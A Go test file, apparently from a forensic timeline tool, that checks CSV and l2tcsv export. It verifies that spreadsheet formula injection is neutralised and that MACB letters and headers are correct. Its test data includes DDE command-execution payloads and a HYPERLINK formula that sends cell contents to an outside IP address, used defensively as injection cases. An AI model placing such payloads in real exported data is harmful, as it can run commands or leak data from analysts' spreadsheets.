package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/jejak-forensics/jejak/timeline"
)

// TestCSVFormulaInjection: attacker-chosen text (an sshd user name, a log
// message, a file path) that a spreadsheet would run as a formula is
// neutralised in every column, and encoding/csv reads every other cell
// back exactly as CSVRow made it; Restore gives back the original text.
func TestCSVFormulaInjection(t *testing.T) {
	payloads := []string{
		`=cmd|' /C calc'!A0`,
		`=HYPERLINK("http://203.0.113.9/x?"&A1,"click")`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		`'=already quoted`,
		"-", "=", "@",
		"-1.5e3", // not a plain number: a spreadsheet may evaluate it
	}
	plain := []string{"-1", "-0.5", "+42", "root", "", "a=b", " =1+1", "1-2"}
	base := corpusEvents(t)[:40]
	var evs events
	for i, e := range base {
		c := *e
		u := timeline.User{}
		if e.User != nil {
			u = *e.User
		}
		c.User = &u
		all := append(append([]string{}, payloads...), plain...)
		s := all[i%len(all)]
		switch i % 3 {
		case 0:
			c.Message = s
		case 1:
			c.User.Name = s
		case 2:
			c.Jejak.Provenance.Path = s
			c.Process = &timeline.Process{Name: s}
		}
		evs = append(evs, &c)
	}
	var buf bytes.Buffer
	n, err := Write(context.Background(), &buf, CSV, evs, timeline.Query{})
	if err != nil || n != int64(len(evs)) {
		t.Fatalf("Write: %d, %v", n, err)
	}
	r := csv.NewReader(&buf)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(evs)+1 || strings.Join(rows[0], ",") != strings.Join(CSVHeader, ",") {
		t.Fatalf("%d rows, header %q", len(rows), rows[0])
	}
	neutralised := 0
	for i, e := range evs {
		want := CSVRow(e)
		got := rows[i+1]
		if len(got) != len(want) {
			t.Fatalf("row %d: %d cells, want %d", i, len(got), len(want))
		}
		for j := range want {
			orig, cell := want[j], got[j]
			if Restore(cell) != orig {
				t.Errorf("row %d %s: %q restores to %q, want %q", i, CSVHeader[j], cell, Restore(cell), orig)
			}
			if orig != "" && strings.ContainsRune("=+-@\t\r'", rune(orig[0])) && !isPlainNumber(orig) {
				neutralised++
				if cell != "'"+orig {
					t.Errorf("row %d %s: %q written as %q, not neutralised", i, CSVHeader[j], orig, cell)
				}
			} else if cell != orig {
				t.Errorf("row %d %s: %q written as %q", i, CSVHeader[j], orig, cell)
			}
			// Whatever the cell held, no cell a spreadsheet reads may start
			// with a formula character unless it is a plain number.
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isPlainNumber(cell) {
				t.Errorf("row %d %s: %q starts a formula", i, CSVHeader[j], cell)
			}
		}
	}
	// Every payload was placed in at least one column.
	if neutralised < len(payloads) {
		t.Errorf("%d cells neutralised, want at least %d", neutralised, len(payloads))
	}
}

func TestNeutralize(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1+1", "'+1+1"}, {"-1+1", "'-1+1"}, {"@x", "'@x"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"'x", "''x"},
		{"-1", "-1"}, {"+3.25", "+3.25"}, {"-.5", "'-.5"}, {"-1.", "'-1."},
		{"x=1", "x=1"}, {"", ""}, {" =1", " =1"},
	} {
		if got := Neutralize(tc.in); got != tc.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := Restore(Neutralize(tc.in)); got != tc.in {
			t.Errorf("Restore(Neutralize(%q)) = %q", tc.in, got)
		}
	}
}

// l2tcsv's header is plaso's (plaso/output/l2t_csv.py, _FIELD_NAMES), and
// MACB letters follow what the time means.
func TestL2TCSV(t *testing.T) {
	want := "date,time,timezone,MACB,source,sourcetype,type,user,host,short,desc,version,filename,inode,notes,format,extra"
	if got := strings.Join(L2TCSVHeader, ","); got != want {
		t.Errorf("header %s, want %s", got, want)
	}
	for desc, m := range map[string]string{
		"Content Modification Time":   "M...",
		"Last Access Time":            ".A..",
		"Metadata Modification Time":  "..C.",
		"MFT Entry Modification Time": "..C.",
		"Creation Time":               "...B",
		"Event Time":                  "....",
		// One event per distinct time of a file (mft, filestat).
		"Content Modification Time; Metadata Modification Time; Creation Time":                   "M.CB",
		"Content Modification Time; Last Access Time; Metadata Modification Time; Creation Time": "MACB",
		"Last Access Time; Creation Time":                                                        ".A.B",
	} {
		if got := macb(desc); got != m {
			t.Errorf("macb(%q) = %s, want %s", desc, got, m)
		}
	}
	ev := &timeline.Event{Timestamp: time.Date(2024, 2, 14, 12, 3, 4, 5e8, time.UTC), TimestampDesc: "Creation Time",
		Message: "=cmd|' /c calc'!A1\nsecond line"}
	ev.Jejak.ID = "abc"
	ev.Jejak.Provenance = timeline.Provenance{Parser: "mft", EvidenceName: "disk.E01", Path: "/x", EvidenceSHA256: "ff"}
	row := L2TCSVRow(ev)
	if row[0] != "02/14/2024" || row[1] != "12:03:04" || row[2] != "UTC" || row[3] != "...B" || row[4] != "FILE" {
		t.Errorf("row %q", row)
	}
	if strings.Contains(row[10], "\n") || !strings.Contains(row[16], "timestamp: 2024-02-14T12:03:04.500000000Z") {
		t.Errorf("desc %q extra %q", row[10], row[16])
	}
	if n := NeutralizeRow(row); !strings.HasPrefix(n[10], "'=") {
		t.Errorf("a formula in desc is not neutralised: %q", n[10])
	}
}
